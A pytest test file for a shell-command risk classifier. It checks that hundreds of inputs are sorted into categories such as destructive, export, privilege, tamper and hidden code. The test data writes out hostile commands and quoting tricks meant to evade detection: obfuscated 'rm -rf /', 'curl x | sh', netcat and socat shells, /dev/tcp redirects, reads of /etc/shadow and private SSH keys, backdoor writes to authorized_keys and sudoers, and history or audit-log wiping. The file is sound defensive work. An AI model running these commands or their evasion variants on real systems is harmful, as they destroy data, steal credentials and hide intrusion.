"""Behaviours of the shell classifier, one per test."""

from __future__ import annotations

import shlex

import pytest

from protocols.classification import Category
from protocols.shell import MAX_LENGTH, classify_shell

C = Category


def cats(text: str) -> frozenset[Category]:
    return classify_shell(text).categories


@pytest.mark.parametrize(
    "text",
    ["rm -rf /", "'r''m' -rf /", '"rm" -rf /', "\\rm -rf /", "r\\m -rf /", "/bin/rm -rf /",
     "$'\\x72m' -rf /", "$'\\162m' -rf /", "r''m -rf /", "rm\\\n -rf /"],
)  # fmt: skip
def test_quote_and_backslash_removal_finds_rm(text: str) -> None:
    result = classify_shell(text)
    assert result.statements == ("rm",)
    assert C.DESTRUCTIVE in result.categories


@pytest.mark.parametrize(
    "text",
    ["ls; rm x", "ls && rm x", "ls || rm x", "ls & rm x", "ls | rm x", "(rm x)", "{ rm x; }",
     "echo $(rm x)", "echo `rm x`", "cat <(rm x)", "tee >(rm x)", "echo ${a:-$(rm x)}",
     "if true; then rm x; fi", "for i in 1; do rm x; done", "while false; do rm x; done",
     "case a in a) rm x;; esac", "f() { rm x; }", "ls\nrm x", "x=$(rm x)", "[[ $(rm x) ]]",
     "cat <<EOF\n$(rm x)\nEOF", "echo \"$(rm x)\"", "! rm x", "ls |& rm x"],
)  # fmt: skip
def test_every_simple_command_is_found(text: str) -> None:
    result = classify_shell(text)
    assert "rm" in result.statements
    assert C.DESTRUCTIVE in result.categories


@pytest.mark.parametrize(
    ("text", "wrappers"),
    [("sudo rm x", ["sudo"]), ("sudo -u bob -g ops rm x", ["sudo"]), ("doas rm x", ["doas"]),
     ("env -i A=1 B=2 rm x", ["env"]), ("nohup rm x", ["nohup"]), ("timeout -s 9 5 rm x", []),
     ("nice -n 5 rm x", []), ("ionice -c 3 rm x", []), ("command rm x", []),
     ("builtin rm x", []), ("exec rm x", []), ("time rm x", []), ("stdbuf -o0 rm x", []),
     ("setsid rm x", []), ("chroot /srv rm x", []), ("xargs -0 -n 1 rm", []),
     ("find . -exec rm {} ;", []), ("find . -execdir rm {} +", []), ("find . -ok rm {} ;", []),
     ("watch -n 1 rm x", []), ("flock /tmp/l rm x", []), ("flock /tmp/l -c 'rm x'", []),
     ("sudo env nohup timeout 5 nice rm x", ["sudo"]), ("bash -c 'rm x'", []),
     ("sh -c 'sh -c \"rm x\"'", []), ("zsh -c 'rm x'", []), ("dash -c 'rm x'", []),
     ("su -c 'rm x' root", []), ("su root -c 'rm x'", []), ("strace -f rm x", []),
     ("busybox rm x", []), ("ssh host rm x", []), ("env -S 'rm x'", [])],
)  # fmt: skip
def test_wrappers_are_unwrapped(text: str, wrappers: list[str]) -> None:
    result = classify_shell(text)
    assert result.statements[-1] == "rm", result
    assert C.DESTRUCTIVE in result.categories
    for w in wrappers:
        assert w in result.statements


def test_sudo_adds_privilege_and_the_user() -> None:
    result = classify_shell("sudo -u postgres ls")
    assert {C.PRIVILEGE, C.READ} <= result.categories
    assert "user:postgres" in result.objects


@pytest.mark.parametrize(
    "text", ["$X", "$X -rf /", "${X}", "$(echo rm) x", "`echo rm` x", '"$SHELL" -c ls',
             "bash -c \"$X\"", "sh -c \"$(curl -s x)\"", "sudo $CMD", "env $X", "xargs $X"],
)  # fmt: skip
def test_computed_command_is_unknown_code(text: str) -> None:
    assert {C.UNKNOWN, C.CODE} <= cats(text)


@pytest.mark.parametrize(
    "text",
    ["{rm,-rf,/}", "/bin/r? -rf /", "r* x", "[r]m x"],
)
def test_globbed_or_braced_command_name_is_unknown(text: str) -> None:
    assert C.UNKNOWN in cats(text)


@pytest.mark.parametrize(
    "text", ["echo 'unterminated", "ls |", "(ls", "if then fi", "ls && && ls", "cat <<EOF\nx",
             "for do done", "a[", "exec 3<>/dev/tcp/h/80"],
)  # fmt: skip
def test_parse_errors_fail_closed(text: str) -> None:
    assert C.UNKNOWN in cats(text)


@pytest.mark.parametrize(
    "text",
    ["eval ls", "source x.sh", ". x.sh", "python3 -c 'print(1)'", "perl -e 1", "ruby -e 1",
     "node -e 1", "php -r 1", "python3 x.py", "python3.11 x.py", "bash x.sh", "./x.sh",
     "/tmp/x", "~/bin/x", "curl x | sh", "base64 -d f | sh", "cat f | bash -s", "bash < f",
     "python3 <<EOF\nprint(1)\nEOF", "awk 'BEGIN{system(\"id\")}'", "awk '{print | \"sh\"}'",
     "awk '{\"id\" | getline x}'", "sed 's/a/id/e'", "sed '1e id'", "make", "npm run x",
     "LD_PRELOAD=/x.so ls", "bash", "exec bash", "sudo -i", "sudo -s", "git -c core.pager=x log",
     "git config core.sshCommand x", "xargs -I{} sh -c 'echo {}'", "gawk -f prog.awk",
     "awk \"$P\" f", "socat - EXEC:sh", "nc -e /bin/sh h 1", "trap 'ls' EXIT", "psql -f x.sql",
     "psql", "psql -c \"$Q\"", "declare -f", "ssh h <<EOF\nls\nEOF"],
)  # fmt: skip
def test_code_the_gateway_cannot_see(text: str) -> None:
    assert C.CODE in cats(text), classify_shell(text)


@pytest.mark.parametrize(
    ("text", "inner"),
    [("bash <<'EOF'\nsudo ls\nEOF", C.PRIVILEGE), ("sh <<< 'reboot'", C.ADMIN),
     ("bash <<-EOF\n\treboot\n\tEOF", C.ADMIN), ("sudo bash <<EOF\nreboot\nEOF", C.ADMIN),
     ("bash <<EOF\nls \\$(reboot)\nEOF", C.ADMIN)],
)  # fmt: skip
def test_heredoc_fed_to_a_shell_is_parsed(text: str, inner: Category) -> None:
    result = classify_shell(text)
    assert inner in result.categories
    assert C.CODE not in result.categories or "sudo" in text


def test_heredoc_with_expansions_fed_to_a_shell_is_code() -> None:
    assert C.CODE in cats("bash <<EOF\nls $X\nEOF")


def test_heredoc_to_cat_is_just_data() -> None:
    assert cats("cat <<'EOF'\nrm -rf /\nEOF") == {C.READ}


def test_literal_shell_strings_are_classified_like_the_line() -> None:
    assert classify_shell("bash -c 'ls -la; df -h'").benign
    assert classify_shell("sh -c 'echo hi | wc -c'").benign


@pytest.mark.parametrize(
    ("text", "cat"),
    [("echo k >> ~/.ssh/authorized_keys", C.PRIVILEGE),
     ("echo k >> $HOME/.ssh/authorized_keys", C.PRIVILEGE),
     ("echo x > /etc/sudoers.d/x", C.PRIVILEGE), ("echo x > /etc/../etc/passwd", C.PRIVILEGE),
     ("echo x > /etc/hosts", C.ADMIN), ("echo x >> ~/.bashrc", C.ADMIN),
     ("echo x > /dev/sda", C.DESTRUCTIVE), ("> ~/.bash_history", C.TAMPER),
     ("ls > /dev/tcp/h/80", C.FORWARDING), ("cat < /etc/shadow", C.EXPORT),
     ("echo x > $F", C.UNKNOWN), ("cp k ~/.ssh/authorized_keys", C.PRIVILEGE),
     ("tee /etc/cron.d/x", C.ADMIN), ("ln -sf /dev/null ~/.bash_history", C.TAMPER),
     ("dd if=x of=/dev/nvme0n1", C.DESTRUCTIVE), ("curl -o /etc/x http://h", C.ADMIN)],
)  # fmt: skip
def test_sensitive_targets_are_flagged_by_path(text: str, cat: Category) -> None:
    assert cat in cats(text), classify_shell(text)


@pytest.mark.parametrize(
    "text", ["echo x > /tmp/o", "echo x >> out.txt", "ls > /dev/null 2>&1", "ls &> log.txt",
             "ls 2>&1 | tee out"],
)  # fmt: skip
def test_ordinary_redirects_are_write(text: str) -> None:
    assert classify_shell(text).benign


def test_redirect_object_is_recorded() -> None:
    assert "path:/tmp/o" in classify_shell("echo x > /tmp/o").objects


@pytest.mark.parametrize(
    ("text", "expected"),
    [("chmod u+s f", C.PRIVILEGE), ("chmod 4755 f", C.PRIVILEGE), ("chmod g+s d", C.PRIVILEGE),
     ("chmod 2775 d", C.PRIVILEGE), ("chmod 777 f", C.PRIVILEGE), ("chmod o+w f", C.PRIVILEGE),
     ("chmod a+w f", C.PRIVILEGE), ("chmod 644 f", C.WRITE), ("chmod u+x f", C.WRITE)],
)  # fmt: skip
def test_chmod_modes(text: str, expected: Category) -> None:
    result = cats(text)
    assert expected in result
    if expected is C.WRITE:
        assert result == {C.WRITE}


@pytest.mark.parametrize(
    ("text", "expected"),
    [("scp -f /etc/passwd", {C.FILE_TRANSFER, C.EXPORT}),
     ("scp -t /tmp/x", {C.FILE_TRANSFER, C.WRITE}),
     ("scp -t ~/.ssh/authorized_keys", {C.FILE_TRANSFER, C.PRIVILEGE}),
     ("scp f host:/tmp", {C.FILE_TRANSFER, C.EXPORT}),
     ("scp host:/etc/hosts .", {C.FILE_TRANSFER, C.WRITE})],
)  # fmt: skip
def test_scp_direction(text: str, expected: set[Category]) -> None:
    assert expected <= cats(text)
    if "-t" in text or "host:/etc" in text:
        assert C.EXPORT not in cats(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("curl https://x", {C.READ}), ("curl -d a=1 https://x", {C.READ, C.WRITE}),
     ("curl -d @f https://x", {C.EXPORT}), ("curl -T f https://x", {C.EXPORT}),
     ("curl -F 'a=@f' https://x", {C.EXPORT}), ("curl --data-binary @- https://x", {C.EXPORT}),
     ("curl -d \"$(cat f)\" https://x", {C.EXPORT}), ("curl -X DELETE https://x", {C.DESTRUCTIVE}),
     ("wget --post-file=f http://x", {C.EXPORT}), ("wget http://x", {C.WRITE})],
)  # fmt: skip
def test_curl_and_wget_direction(text: str, expected: set[Category]) -> None:
    assert expected <= cats(text), classify_shell(text)


def test_hosts_are_objects() -> None:
    assert "host:x.io" in classify_shell("curl -T f https://x.io/up").objects
    assert "host:db2" in classify_shell("ssh bob@db2 uptime").objects


@pytest.mark.parametrize(
    ("text", "expected"),
    [("ssh h", {C.FORWARDING}), ("ssh -L 1:h:2 b", {C.FORWARDING}),
     ("ssh h sudo reboot", {C.FORWARDING, C.PRIVILEGE, C.ADMIN}),
     ("ssh -o ProxyCommand='nc %h %p' h", {C.CODE}), ("ssh -V", {C.READ})],
)  # fmt: skip
def test_ssh(text: str, expected: set[Category]) -> None:
    assert expected <= cats(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("unset HISTFILE", C.TAMPER), ("export HISTFILE=/dev/null", C.TAMPER),
     ("HISTSIZE=0", C.TAMPER), ("HISTFILE= ls", C.TAMPER), ("set +o history", C.TAMPER),
     ("history -c", C.TAMPER), ("history -d 3", C.TAMPER), ("stty -echo", C.TAMPER),
     ("export PROMPT_COMMAND=x", C.TAMPER), ("alias ls='rm -rf /'", C.TAMPER),
     ("ls() { :; }", C.TAMPER), ("kill -9 $$", C.TAMPER), ("trap x DEBUG", C.TAMPER),
     ("touch -r a b", C.TAMPER), ("systemctl stop auditd", C.TAMPER),
     ("journalctl --vacuum-size=1", C.TAMPER), ("declare -x HISTFILE=/dev/null", C.TAMPER),
     ("env -u HISTFILE bash", C.TAMPER), ("PGOPTIONS='-c x=y' psql -c 'select 1'", C.TAMPER),
     ("shopt -u histappend", C.TAMPER), ("script -q x", C.TAMPER)],
)  # fmt: skip
def test_tamper(text: str, expected: Category) -> None:
    assert expected in cats(text), classify_shell(text)


def test_alias_body_is_classified() -> None:
    assert C.DESTRUCTIVE in cats("alias cleanup='rm -rf /tmp/x'")
    assert classify_shell("alias ll='ls -la'").benign


def test_function_call_after_definition_uses_the_body() -> None:
    result = classify_shell("greet() { echo hi; }; greet")
    assert result.benign
    assert C.DESTRUCTIVE in cats("wipe() { rm -rf /; }; wipe")


@pytest.mark.parametrize(
    ("text", "expected"),
    [("git status", C.READ), ("git push --force", C.DESTRUCTIVE),
     ("git push origin +main", C.DESTRUCTIVE), ("git reset --hard", C.DESTRUCTIVE),
     ("git clean -fd", C.DESTRUCTIVE), ("docker run --privileged x", C.PRIVILEGE),
     ("docker exec -it x sh", C.CODE), ("docker system prune", C.DESTRUCTIVE),
     ("docker image ls", C.READ), ("kubectl get pods", C.READ),
     ("kubectl get secrets -o yaml", C.EXPORT), ("kubectl delete ns x", C.DESTRUCTIVE),
     ("kubectl -n prod delete pod x", C.DESTRUCTIVE), ("kubectl exec x -- id", C.CODE),
     ("kubectl port-forward x 1:1", C.FORWARDING), ("kubectl apply -f x", C.ADMIN),
     ("kubectl frobnicate", C.ADMIN), ("helm uninstall x", C.DESTRUCTIVE),
     ("terraform destroy", C.DESTRUCTIVE), ("terraform apply -destroy", C.DESTRUCTIVE),
     ("terraform state rm x", C.DESTRUCTIVE), ("terraform plan", C.READ),
     ("systemctl status x", C.READ), ("systemctl restart x", C.ADMIN),
     ("systemctl frobnicate x", C.ADMIN), ("service x status", C.READ),
     ("service x restart", C.ADMIN), ("apt-get install x", C.ADMIN),
     ("apt-get purge x", C.DESTRUCTIVE), ("apt list", C.READ), ("pip install x", C.ADMIN),
     ("aws s3 ls", C.READ), ("aws s3 cp f s3://b/", C.EXPORT),
     ("aws iam create-user --user-name list", C.ADMIN), ("aws s3 rb s3://b", C.DESTRUCTIVE),
     ("gcloud compute instances delete vm", C.DESTRUCTIVE)],
)  # fmt: skip
def test_subcommands(text: str, expected: Category) -> None:
    result = cats(text)
    assert expected in result, classify_shell(text)
    if expected is C.READ:
        assert classify_shell(text).benign


def test_subcommand_refinement_keeps_other_commands() -> None:
    assert C.ADMIN in cats("reboot; docker image ls")


@pytest.mark.parametrize(
    ("text", "expected"),
    [("cat /etc/shadow", C.EXPORT), ("cat /etc//shadow", C.EXPORT),
     ("cat ~/.ssh/id_rsa", C.EXPORT), ("cat $HOME/.ssh/id_ed25519", C.EXPORT),
     ("less /proc/1/environ", C.EXPORT), ("cp ~/.aws/credentials /tmp", C.EXPORT),
     ("grep x .env", C.EXPORT), ("cat server.key", C.EXPORT), ("pg_dump db", C.EXPORT),
     ("nc h 1", C.EXPORT)],
)  # fmt: skip
def test_secret_reads_are_export(text: str, expected: Category) -> None:
    assert expected in cats(text)


@pytest.mark.parametrize(
    "text", ["cat ~/.ssh/id_rsa.pub", "cat ~/.ssh/authorized_keys", "ls -l ~/.ssh/id_rsa",
             "cat /etc/passwd", "cat notes.txt"],
)  # fmt: skip
def test_public_and_metadata_reads_are_benign(text: str) -> None:
    assert classify_shell(text).benign, classify_shell(text)


def test_rm_is_always_destructive() -> None:
    assert C.DESTRUCTIVE in cats("rm notes.txt")


def test_unknown_program_is_unknown_and_named() -> None:
    result = classify_shell("frobnicate --all")
    assert result.categories == {C.UNKNOWN}
    assert "program:frobnicate" in result.objects


def test_qualified_standard_path_means_the_program() -> None:
    assert classify_shell("/usr/bin/ls -la").benign
    assert C.CODE in cats("/opt/tools/ls")


def test_history_expansion_is_code() -> None:
    assert C.CODE in cats("echo !rm")
    assert classify_shell("echo 'hi!x'").benign
    assert classify_shell("[ a != b ]").benign


def test_arithmetic_subscript_injection_is_code() -> None:
    assert C.CODE in cats("[[ -v 'a[$(id)]' ]]")
    assert C.CODE in cats("declare 'a[$(id)]=1'")


@pytest.mark.parametrize(
    ("text", "expected"),
    [("psql -c 'SELECT 1'", {C.READ}), ("psql -c 'DROP TABLE t'", {C.DESTRUCTIVE}),
     ("psql --command='GRANT ALL ON t TO bob'", {C.PRIVILEGE}),
     ("psql -h db1 -c 'select 1' -c 'truncate t'", {C.DESTRUCTIVE}),
     ("psql -c '\\! rm -rf /'", {C.CODE, C.DESTRUCTIVE}), ("psql -c '\\dt'", {C.READ}),
     ("psql -c \"\\copy t to '/tmp/x'\"", {C.EXPORT}), ("psql <<EOF\nDROP TABLE t;\nEOF",
                                                        {C.DESTRUCTIVE}),
     ("psql -f -  <<< 'DROP TABLE t'", {C.DESTRUCTIVE}), ("psql -l", {C.READ})],
)  # fmt: skip
def test_psql_sql_goes_to_the_sql_classifier(text: str, expected: set[Category]) -> None:
    result = classify_shell(text)
    assert expected <= result.categories, result
    if expected == {C.READ}:
        assert result.benign


def test_psql_statements_are_reported() -> None:
    result = classify_shell("psql -c 'DROP TABLE t'")
    assert result.statements[0] == "psql"
    assert len(result.statements) >= 2


def test_nesting_limit_fails_closed() -> None:
    assert C.UNKNOWN in cats("nohup " * 20 + "ls")
    assert classify_shell("nohup " * 5 + "ls").benign
    text = "ls"
    for _ in range(14):
        text = f"bash -c {shlex.quote(text)}"
    assert C.UNKNOWN in cats(text)


def test_overlong_and_nul_lines_are_unknown() -> None:
    assert cats("ls " + "a" * MAX_LENGTH) == {C.UNKNOWN}
    assert cats("ls\x00rm") == {C.UNKNOWN}


def test_comments_do_not_run() -> None:
    assert classify_shell("ls # rm -rf /").benign
    assert classify_shell("# sudo reboot").benign


def test_statements_in_order() -> None:
    assert classify_shell("ls; cat x | grep y && id").statements == ("ls", "cat", "grep", "id")


@pytest.mark.parametrize(
    "text", ["n²{\U0010d136\n", "~\x97b:{\U00108712\x08h", "n\U00031acd²{\U0010d136\n", "\ud800{"]
)
def test_non_ascii_input_that_crashed_the_grammar_is_safe(text: str) -> None:
    # tree-sitter-bash 0.25 segfaulted (intermittently) on these before the ASCII mapping.
    for _ in range(50):
        assert classify_shell(text).categories


def test_non_ascii_words_keep_their_original_text() -> None:
    result = classify_shell("echo héllo > /tmp/é.txt; rm café")
    assert "path:/tmp/é.txt" in result.objects
    assert result.statements == ("echo", "rm")
    assert classify_shell("'r''m' é").statements == ("rm",)
